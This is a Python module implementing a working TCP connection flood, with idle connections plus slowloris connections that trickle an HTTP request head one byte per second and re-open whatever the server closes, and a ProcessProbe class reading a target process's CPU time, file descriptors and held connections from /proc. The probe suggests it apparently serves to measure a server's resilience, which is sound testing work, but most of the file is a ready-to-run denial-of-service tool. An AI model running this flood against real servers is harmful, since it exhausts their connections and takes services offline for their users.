"""A connection flood against one TCP port, as an attacker on the network would run it.

`Flood(host, port, idle=300, slowloris=100)` opens `idle` connections that never send a
byte and `slowloris` connections that send a request head one byte a second and never finish
it. A thread keeps them all open: every second it re-opens the ones the server closed, and
sends the next byte on the slow ones. Connects do not wait: a server that does not accept
leaves them pending in the kernel, which retries. `opened` counts every connection
established, `refused` the connects that failed.

Also `ProcessProbe(pid)`: CPU seconds, open file descriptors and the connections on a port
of a process, from /proc.
"""

from __future__ import annotations

import errno
import os
import select
import socket
import threading
import time

__all__ = ["Flood", "ProcessProbe"]

SLOW_HEAD = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Padding: " + b"a" * 4096


class _Conn:
    def __init__(self, sock: socket.socket, slow: bool) -> None:
        self.sock = sock
        self.slow = slow
        self.sent = 0
        self.connected = False


class Flood:
    def __init__(self, host: str, port: int, *, idle: int = 0, slowloris: int = 0) -> None:
        self.host, self.port = host, port
        self.want = [False] * idle + [True] * slowloris
        self.conns: list[_Conn | None] = [None] * len(self.want)
        self.opened = 0
        self.refused = 0
        self.reopened = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="flood", daemon=True)

    def start(self) -> Flood:
        self._thread.start()
        return self

    def _connect(self, slow: bool) -> _Conn | None:
        """Start a connect without waiting for it (the kernel retries dropped SYNs)."""
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        if sock.connect_ex((self.host, self.port)) not in (0, errno.EINPROGRESS):
            sock.close()
            self.refused += 1
            return None
        return _Conn(sock, slow)

    def _settle(self) -> None:
        """Count the connects that completed; forget the ones that failed."""
        pending = {c.sock: c for c in self.conns if c is not None and not c.connected}
        if not pending:
            return
        _, writable, _ = select.select([], list(pending), [], 0)
        for sock in writable:
            conn = pending[sock]
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                conn.connected = True
                self.opened += 1
            else:
                sock.close()
                self.refused += 1
                self.conns[self.conns.index(conn)] = None

    @staticmethod
    def _closed_by_peer(conn: _Conn) -> bool:
        if not conn.connected:
            return False
        try:
            while True:  # drain whatever the server answered; b"" is its FIN
                data = conn.sock.recv(65536)
                if not data:
                    return True
        except BlockingIOError:
            return False
        except OSError:
            return True

    def _sweep(self) -> None:
        self._settle()
        for i, slow in enumerate(self.want):
            if self._stop.is_set():
                return
            conn = self.conns[i]
            if conn is not None and self._closed_by_peer(conn):
                conn.sock.close()
                conn = self.conns[i] = None
                self.reopened += 1
            if conn is None:
                conn = self.conns[i] = self._connect(slow)
            if conn is not None and conn.connected and conn.slow and conn.sent < len(SLOW_HEAD):
                try:
                    conn.sock.send(SLOW_HEAD[conn.sent:conn.sent + 1])
                    conn.sent += 1
                except OSError:
                    pass

    def _run(self) -> None:
        while not self._stop.is_set():
            started = time.monotonic()
            self._sweep()
            self._stop.wait(max(0.0, 1.0 - (time.monotonic() - started)))

    def open_now(self) -> int:
        return sum(1 for c in self.conns if c is not None and c.connected)

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(timeout=30)
        for conn in self.conns:
            if conn is not None:
                conn.sock.close()
        self.conns = [None] * len(self.want)

    def __enter__(self) -> Flood:
        return self.start()

    def __exit__(self, *exc: object) -> None:
        self.stop()


class ProcessProbe:
    def __init__(self, pid: int) -> None:
        self.pid = pid

    def cpu_seconds(self) -> float:
        with open(f"/proc/{self.pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def open_files(self) -> int:
        return len(os.listdir(f"/proc/{self.pid}/fd"))

    def connections_on_port(self, port: int) -> int:
        """The process's established TCP connections whose local port is `port` (the
        connections its listener holds), from /proc/net/tcp{,6} and its fd table."""
        inodes = set()
        for name in os.listdir(f"/proc/{self.pid}/fd"):
            try:
                link = os.readlink(f"/proc/{self.pid}/fd/{name}")
            except OSError:
                continue
            if link.startswith("socket:["):
                inodes.add(link[8:-1])
        held = set()  # distinct: a table read while it changes may list a socket twice
        for table in ("tcp", "tcp6"):
            try:
                with open(f"/proc/{self.pid}/net/{table}") as f:
                    lines = f.read().splitlines()[1:]
            except OSError:
                continue
            for line in lines:
                fields = line.split()
                local_port = int(fields[1].rsplit(":", 1)[1], 16)
                if local_port == port and fields[3] != "0A" and fields[9] in inodes:
                    held.add(fields[9])  # 0A: LISTEN
        return len(held)
